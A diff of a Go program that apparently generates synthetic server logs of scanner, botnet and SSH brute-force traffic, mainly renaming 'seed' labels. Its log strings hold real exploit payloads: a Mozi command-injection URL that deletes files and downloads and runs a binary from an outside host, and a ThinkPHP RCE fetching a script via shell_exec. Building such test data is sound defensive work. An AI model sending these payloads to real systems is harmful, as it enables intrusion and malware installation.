@@ -469,16 +469,16 @@ func internal() {
 // Vulnerability scanners
 
 const (
-	uaSeedPHP   = "Mozilla/5.0 (Windows; U; Windows NT 6.0;en-US; rv:1.9.2) Gecko/20100115 Firefox/3.6)"
-	uaChrome78  = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"
-	uaAcunetix  = "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.21 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.21"
-	uaAcunetix2 = "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.21"
-	uaMasscan   = "masscan/1.0 (https://github.com/robertdavidgraham/masscan)"
-	uaSqlmap    = "sqlmap/1.8.3#stable (https://sqlmap.org)"
-	uaNuclei    = "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"
-	uaZgrab     = "Mozilla/5.0 zgrab/0.x"
-	uaChrome120 = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
-	uaL9        = "Mozilla/5.0 (l9explore/1.2.2)"
+	uaOldFirefoxPHP = "Mozilla/5.0 (Windows; U; Windows NT 6.0;en-US; rv:1.9.2) Gecko/20100115 Firefox/3.6)"
+	uaChrome78      = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"
+	uaAcunetix      = "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.21 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.21"
+	uaAcunetix2     = "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.21"
+	uaMasscan       = "masscan/1.0 (https://github.com/robertdavidgraham/masscan)"
+	uaSqlmap        = "sqlmap/1.8.3#stable (https://sqlmap.org)"
+	uaNuclei        = "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"
+	uaZgrab         = "Mozilla/5.0 zgrab/0.x"
+	uaChrome120     = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
+	uaL9            = "Mozilla/5.0 (l9explore/1.2.2)"
 )
 
 // probe sends paths one after another, gap seconds apart (jittered).
@@ -501,20 +501,20 @@ func probe(ip string, t time.Time, lo, hi int, ua string, reqs []string) time.Ti
 }
 
 func vulnScanners() {
-	// Seed: PHP/ThinkPHP path scanner, verbatim requests, "403 0".
+	// Real-world request: PHP/ThinkPHP path scanner, verbatim requests, "403 0".
 	php := who("183.136.225.44", vulnScanner, "CN")
 	t := at(2, 3, 41, 9)
 	for _, p := range []string{"/TP/public/index.php", "/TP/index.php", "/thinkphp/html/public/index.php", "/html/public/index.php", "/public/index.php", "/TP/html/public/index.php", "/elrekt.php", "/index.php", "/"} {
-		raw(php, t, "GET "+p+" HTTP/1.1", 403, "0", "-", uaSeedPHP)
+		raw(php, t, "GET "+p+" HTTP/1.1", 403, "0", "-", uaOldFirefoxPHP)
 		t = t.Add(secs(0, 2))
 	}
 	t = at(19, 22, 5, 44)
 	for _, p := range []string{"/TP/public/index.php", "/TP/index.php", "/thinkphp/html/public/index.php", "/public/index.php", "/elrekt.php"} {
-		raw(php, t, "GET "+p+" HTTP/1.1", 403, "0", "-", uaSeedPHP)
+		raw(php, t, "GET "+p+" HTTP/1.1", 403, "0", "-", uaOldFirefoxPHP)
 		t = t.Add(secs(0, 2))
 	}
 
-	// Seed: ZmEu phpMyAdmin scanner.
+	// Real-world request: ZmEu phpMyAdmin scanner.
 	zmeu := who("116.204.182.17", vulnScanner, "TH")
 	t = at(5, 16, 2, 51)
 	for _, p := range []string{"/w00tw00t.at.blackhats.romanian.anti-sec:)", "/phpMyAdmin/scripts/setup.php", "/phpmyadmin/scripts/setup.php", "/pma/scripts/setup.php", "/myadmin/scripts/setup.php", "/MyAdmin/scripts/setup.php", "/dbadmin/scripts/setup.php", "/mysql/scripts/setup.php", "/phpadmin/scripts/setup.php", "/typo3/phpmyadmin/scripts/setup.php", "/web/phpMyAdmin/scripts/setup.php", "/xampp/phpmyadmin/scripts/setup.php"} {
@@ -522,7 +522,7 @@ func vulnScanners() {
 		t = t.Add(secs(0, 1))
 	}
 
-	// Seed: Mozi botnet RCE. The download host in the URL is another infected
+	// Real-world request: Mozi botnet RCE. The download host in the URL is another infected
 	// device, not a source in these logs.
 	mozi := who("59.88.22.6", vulnScanner, "IN")
 	raw(mozi, at(8, 11, 27, 3), "GET /shell?cd+/tmp;rm+-rf+*;wget+http://117.239.21.130:48912/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws HTTP/1.1", 403, "0", "-", "Hello, world")
@@ -530,12 +530,12 @@ func vulnScanners() {
 	raw(mozi, at(8, 11, 27, 6), "POST /GponForm/diag_Form?images/ HTTP/1.1", 404, "196", "-", "Hello, World")
 	raw(mozi, at(23, 4, 2, 50), "GET /shell?cd+/tmp;rm+-rf+*;wget+http://117.239.21.130:48912/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws HTTP/1.1", 403, "0", "-", "Hello, world")
 
-	// Seed: Morfeus soapCaller.bs probe.
+	// Real-world request: Morfeus soapCaller.bs probe.
 	mor := who("211.253.10.96", vulnScanner, "KR")
 	raw(mor, at(11, 7, 33, 21), "GET /user/soapCaller.bs HTTP/1.1", 404, "196", "-", "Morfeus Fucking Scanner")
 	raw(mor, at(11, 7, 33, 22), "GET /soapCaller.bs HTTP/1.1", 404, "196", "-", "Morfeus Fucking Scanner")
 
-	// Seed: ThinkPHP invokefunction exploit (Apache escapes '\' as "\\").
+	// Real-world request: ThinkPHP invokefunction exploit (Apache escapes '\' as "\\").
 	tp := who("121.4.56.143", vulnScanner, "CN")
 	t = at(14, 1, 6, 38)
 	raw(tp, t, `GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21 HTTP/1.1`, 403, "3554", "-", uaChrome78)
@@ -543,7 +543,7 @@ func vulnScanners() {
 	raw(tp, t.Add(3*time.Second), `GET /index.php?s=index/think\\Container/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=wget%20-O%20/tmp/.x%20http://sys.example.net/x.sh HTTP/1.1`, 403, "3554", "-", uaChrome78)
 	raw(tp, t.Add(5*time.Second), "GET /index.php?s=captcha HTTP/1.1", 403, "3554", "-", uaChrome78)
 
-	// Seed: masscan banner grab.
+	// Real-world request: masscan banner grab.
 	ms := who("45.55.64.97", vulnScanner, "US")
 	raw(ms, at(4, 19, 20, 2), "GET / HTTP/1.0", 403, "0", "-", uaMasscan)
 	raw(ms, at(26, 9, 44, 30), "GET / HTTP/1.0", 403, "0", "-", uaMasscan)
@@ -768,11 +768,11 @@ func denialOfService() {
 // Proxy scanners and noise
 
 func proxyScanners() {
-	// Seed: LeakIX.
+	// Real-world request: LeakIX.
 	lk := who("88.99.2.170", proxyScanner, "DE")
 	raw(lk, at(4, 14, 2, 17), "CONNECT leakix.net:443 HTTP/1.1", 403, "0", "-", "Go-http-client/1.1")
 	raw(lk, at(22, 1, 55, 40), "CONNECT leakix.net:443 HTTP/1.1", 403, "0", "-", "Go-http-client/1.1")
-	// Seed: mail relay attempt through CONNECT.
+	// Real-world request: mail relay attempt through CONNECT.
 	at1 := who("36.110.228.254", proxyScanner, "CN")
 	raw(at1, at(7, 18, 11, 2), "CONNECT account.atresmedia.com:25 HTTP/1.1", 405, "0", "-", "Java/1.8.0_271")
 	raw(at1, at(7, 18, 11, 3), "CONNECT account.atresmedia.com:25 HTTP/1.1", 405, "0", "-", "Java/1.8.0_271")
@@ -972,7 +972,7 @@ var sshAttackers = []sshAttacker{
 	{"171.244.40.88", "VN", []int{7}, "root"},
 	{"42.112.27.164", "VN", []int{4}, "probe"},
 	{"121.133.18.7", "KR", []int{5}, "dict"},
-	{"1.234.58.120", "KR", nil, "seed"}, // the seed document's sequence
+	{"1.234.58.120", "KR", nil, "replay"}, // a typical attack sequence, replayed
 	{"220.95.201.2", "KR", []int{4}, "mixed"},
 	{"118.45.11.30", "KR", []int{4}, "dict"},
 	{"133.242.5.19", "JP", []int{4}, "dict"},
@@ -1006,8 +1006,8 @@ var sshAttackers = []sshAttacker{
 	{"190.98.205.12", "CL", []int{4}, "mixed"},
 }
 
-// seedSequence reproduces the SSH example of the seed document.
-func seedSequence(ip string, t time.Time) {
+// replaySequence reproduces a typical SSH attack sequence.
+func replaySequence(ip string, t time.Time) {
 	p1, p2, p3, p4, p5, p6 := port(), port(), port(), port(), port(), port()
 	pid := nextPID()
 	sshd(t, pid, fmt.Sprintf("Invalid user scan from %s port %d", ip, p1))
@@ -1045,8 +1045,8 @@ func sshAttacks() {
 			cat = vulnScanner
 		}
 		who(a.ip, cat, a.cc)
-		if a.style == "seed" {
-			seedSequence(a.ip, at(7, 4, 12, 55))
+		if a.style == "replay" {
+			replaySequence(a.ip, at(7, 4, 12, 55))
 			continue
 		}
 		for _, n := range a.bursts {
